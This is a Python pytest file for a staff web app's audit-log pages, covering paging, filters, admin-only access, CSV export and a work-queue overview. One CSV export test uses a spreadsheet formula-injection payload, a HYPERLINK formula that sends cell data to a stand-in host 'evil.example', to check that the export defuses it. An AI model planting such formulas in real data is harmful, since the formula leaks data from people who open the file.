"""The operators' pages: the audit log paged on the server, filtered and exported, and the
overview of the work queues."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select

from kenzen import audit
from kenzen.access import Role
from kenzen.audit import MAX_PAGE_SIZE, AuditEntry, Outcome
from kenzen.sellers import marks
from tests.conftest import Clock, World
from tests.web.forms import page_token
from tests.web.test_staff_pages import LogIn, log_in  # noqa: F401

DAY = datetime(2026, 11, 20, tzinfo=UTC)


def _add_entries(world: World, count: int, **fields: str) -> list[int]:
    """``count`` entries an hour apart from DAY, actor ``clerk@example.test`` by default."""
    with world.database.transaction() as session:
        entries = [
            audit.AuditEntry(
                at=DAY + timedelta(hours=n),
                actor=fields.get("actor", "clerk@example.test"),
                actor_role="admin",
                action=fields.get("action", "addListing"),
                target=fields.get("target", f"listing:{n}"),
                outcome=Outcome(fields.get("outcome", "ok")),
                detail={},
            )
            for n in range(count)
        ]
        session.add_all(entries)
        session.flush()
        return [e.id for e in entries]


def _ids(page: str) -> list[int]:
    return [int(i) for i in re.findall(r'data-testid="audit-row" data-id="(\d+)"', page)]


def _link(page: str, name: str) -> str | None:
    found = re.search(rf'href="([^"]+)"[^>]*data-testid="audit-{name}"', page)
    return found.group(1).replace("&amp;", "&") if found else None


def test_the_log_is_paged_on_the_server_at_and_past_the_bound(
    client: TestClient,
    world: World,
    log_in: LogIn,  # noqa: F811
) -> None:
    ids = _add_entries(world, MAX_PAGE_SIZE + 5, action="bulkThing")
    log_in(Role.ADMIN)
    first = client.get("/staff/audit?action=bulkThing")
    assert _ids(first.text) == list(reversed(ids))[: audit.PAGE_SIZE]
    at_bound = client.get(f"/staff/audit?action=bulkThing&size={MAX_PAGE_SIZE}").text
    assert _ids(at_bound) == list(reversed(ids))[:MAX_PAGE_SIZE]
    older = _link(at_bound, "older")
    assert older is not None
    rest = client.get(older).text
    assert _ids(rest) == list(reversed(ids))[MAX_PAGE_SIZE:]
    assert _link(rest, "older") is None
    for size in (str(MAX_PAGE_SIZE + 1), "0", "many"):
        refused = client.get(f"/staff/audit?action=bulkThing&size={size}")
        assert refused.status_code == 422
        assert f"size: a whole number from 1 to {MAX_PAGE_SIZE}" in refused.text
        assert 'data-testid="audit-row"' not in refused.text


def test_older_and_newer_pages_walk_the_log_by_keyset(
    client: TestClient,
    world: World,
    log_in: LogIn,  # noqa: F811
) -> None:
    ids = list(reversed(_add_entries(world, 5, action="walk")))
    log_in(Role.ADMIN)
    page = client.get("/staff/audit?action=walk&size=2").text
    assert _ids(page) == ids[0:2]
    assert _link(page, "newer") is None
    seen = []
    while (older := _link(page, "older")) is not None:
        page = client.get(older).text
        seen.append(_ids(page))
    assert seen == [ids[2:4], ids[4:5]]
    newer = _link(page, "newer")
    assert newer is not None
    assert _ids(client.get(newer).text) == ids[2:4]
    for bad in ("before=0", "after=9223372036854775808"):
        assert client.get(f"/staff/audit?{bad}").status_code == 422


def test_filters_by_actor_action_target_outcome_and_time(
    client: TestClient,
    world: World,
    log_in: LogIn,  # noqa: F811
) -> None:
    ids = _add_entries(world, 6, action="filtered")
    (other,) = _add_entries(world, 1, actor="Other@Example.test", action="filtered")
    (denied,) = _add_entries(world, 1, action="filtered", outcome="denied", target="seller:S2")
    log_in(Role.ADMIN)

    def shown(query: str) -> set[int]:
        response = client.get(f"/staff/audit?action=filtered&{query}")
        assert response.status_code == 200, response.text
        return set(_ids(response.text))

    assert shown("actor=other@example.TEST") == {other}
    assert shown("target=listing:3") == {ids[3]}
    assert shown("outcome=denied") == {denied}
    assert shown("since=2026-11-20T02:00:00Z&until=2026-11-20T04:00:00Z") == {ids[2], ids[3]}
    # A time without an offset is UTC; one with an offset is converted.
    assert shown("since=2026-11-20T05:00&actor=clerk@example.test") == {ids[5]}
    assert shown("until=2026-11-20T10:00%2B09:00") == {ids[0], other, denied}


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("since=yesterday", "since: not a date or time"),
        ("until=2026-13-01", "until: not a date or time"),
        ("since=2026-11-21&until=2026-11-20", "until: must be later than since"),
        ("outcome=maybe", "outcome: one of ok, denied"),
        ("actor=" + "a" * 321, "actor: at most 320 characters"),
        ("action=" + "a" * 65, "action: at most 64 characters"),
        ("target=" + "t" * 201, "target: at most 200 characters"),
    ],
)
def test_a_bad_filter_is_refused_naming_its_field(
    client: TestClient,
    world: World,
    log_in: LogIn,  # noqa: F811
    query: str,
    message: str,
) -> None:
    log_in(Role.ADMIN)
    refused = client.get(f"/staff/audit?{query}")
    assert refused.status_code == 422
    assert message in refused.text
    assert client.get(f"/staff/audit.csv?{query}").status_code == 422


def test_the_filter_bounds_are_accepted_at_their_limit(
    client: TestClient,
    world: World,
    log_in: LogIn,  # noqa: F811
) -> None:
    log_in(Role.ADMIN)
    query = f"actor={'a' * 320}&action={'a' * 64}&target={'t' * 200}"
    assert client.get(f"/staff/audit?{query}").status_code == 200


def test_the_csv_export_is_audited_and_defuses_formulas(
    client: TestClient,
    world: World,
    log_in: LogIn,  # noqa: F811
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    form = {"email": formula, "password": "x", "csrf_token": page_token(client)}
    assert client.post("/login", data=form).status_code == 401
    _add_entries(world, 3, action="exported")
    log_in(Role.ADMIN)
    export = client.get("/staff/audit.csv")
    assert export.status_code == 200
    assert export.headers["content-type"] == "text/csv; charset=utf-8"
    assert export.headers["content-disposition"].startswith("attachment;")
    rows = list(csv.reader(io.StringIO(export.text)))
    assert rows[0] == ["id", "at", "actor", "actor_role", "action", "target", "outcome", "detail"]
    refused = next(r for r in rows if r[4] == "logIn" and r[6] == "denied")
    assert refused[2] == "'" + formula.lower()
    assert refused[5] == "login:" + formula.lower()
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)
    only = list(csv.reader(io.StringIO(client.get("/staff/audit.csv?action=exported").text)))
    assert [r[4] for r in only[1:]] == ["exported"] * 3
    with world.database.transaction() as session:
        logged = session.scalars(
            select(AuditEntry).where(AuditEntry.action == "exportAuditLog")
        ).all()
        assert [e.detail for e in logged] == [{}, {"action": "exported"}]


@pytest.mark.parametrize("role", [Role.SELLER, Role.AHS_AGENT, Role.ACCOUNT_SPECIALIST])
def test_only_administrators_read_or_export_the_log(
    client: TestClient,
    world: World,
    log_in: LogIn,  # noqa: F811
    role: Role,
) -> None:
    log_in(role)
    assert client.get("/staff/audit").status_code == 403
    assert client.get("/staff/audit.csv").status_code == 403
    assert client.get("/staff/audit?since=nonsense").status_code == 403
    with world.database.transaction() as session:
        assert (
            session.scalar(
                select(func.count())
                .where(AuditEntry.action == "exportAuditLog")
                .where(AuditEntry.outcome == Outcome.OK)
            )
            == 0
        )


def test_the_overview_shows_each_queue_with_links_for_who_works_it(
    client: TestClient,
    world: World,
    log_in: LogIn,  # noqa: F811
    clock: Clock,
) -> None:
    clock.move_to(datetime(2026, 12, 1, 3, 0, tzinfo=UTC))
    with world.database.transaction() as session:
        marks.mark_for_evaluation(session, ["S1", "S2"], reason="events imported")
    clock.advance(hours=2, minutes=5)
    log_in(Role.ACCOUNT_SPECIALIST)
    page = client.get("/staff/overview", headers={"Accept-Language": "en"})
    assert page.status_code == 200
    evaluation = re.search(r'data-testid="queue-evaluation">(.*?)</tr>', page.text, re.S)
    assert evaluation is not None
    assert '<td data-testid="depth">2</td>' in evaluation.group(1)
    assert "2 h 05 min" in evaluation.group(1)
    assert 'href="/staff/appeals"' in page.text
    assert 'href="/staff/callbacks"' not in page.text
    log_in(Role.SELLER)
    assert client.get("/staff/overview").status_code == 403
